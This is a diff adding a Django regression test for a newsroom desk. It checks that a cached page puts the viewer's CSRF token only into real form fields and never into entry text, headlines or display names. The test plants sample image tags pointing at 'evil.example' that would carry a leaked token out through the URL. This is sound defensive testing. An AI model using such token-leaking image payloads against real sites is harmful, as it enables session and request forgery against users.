@@ -7,11 +7,15 @@ view runs, and nothing changes. The same posts with the token from the page go t
 
 from __future__ import annotations
 
+import html
+import re
+import urllib.parse
 from typing import Any
 
 import pytest
 from django.test import Client
 
+from bulletin.accounts.models import User
 from bulletin.blogs.models import Entry, LiveBlog
 from tests.desk.conftest import Team
 from tests.desk.support import (
@@ -122,3 +126,39 @@ def test_the_desks_scripts_may_send_the_token_from_the_cookie_in_a_header(team: 
 
     assert response.status_code == 200
     assert response.json()["others"] == []
+
+
+# Text that once made the desk's card cache put the viewer's token into what a contributor
+# wrote: the old placeholder, the new one, and the whole input it fills, as text and in URLs.
+PLACEHOLDERS = (
+    "csrf-slot-for-this-viewer",
+    "<csrf-slot>",
+    'name="csrfmiddlewaretoken" value="<csrf-slot>"',
+)
+
+
+def test_the_token_goes_only_into_the_cards_own_form_fields_never_into_entry_text(
+    team: Team, make
+) -> None:
+    body = "".join(
+        f"<p>{html.escape(slot)}</p>"
+        f'<p><img src="https://evil.example/?{urllib.parse.quote(slot)}" alt="{html.escape(slot)}">'
+        f'<img src="https://evil.example/?{slot}"></p>'
+        for slot in PLACEHOLDERS
+    )
+    User.objects.filter(pk=team.contributor.pk).update(display_name="<csrf-slot> Cal")
+    make.entry(team.blog, team.contributor, status="submitted", headline="<csrf-slot>", body=body)
+    browser = _browser(team.editor)
+
+    for _ in range(2):  # rendered into the cache, then served from it
+        page = browser.get(f"/desk/{team.blog.slug}/").content.decode()  # as sent, not unescaped
+        # Real inputs only: the entry's text may say 'name="csrfmiddlewaretoken"', not '<input'.
+        field = '<input type="hidden" name="csrfmiddlewaretoken" value="{}">'
+        tokens = set(re.findall(re.escape(field).replace(r"\{\}", '([^"]+)'), page))
+        assert tokens
+        assert not any("csrf-slot" in token for token in tokens)
+        for token in tokens:
+            in_forms = page.count(field.format(token))
+            assert page.count(token) == in_forms, f"the token {token!r} is outside a form field"
+        assert "evil.example" in page  # the entry's images are there, without the token
+        assert browser.cookies["csrftoken"].value not in page
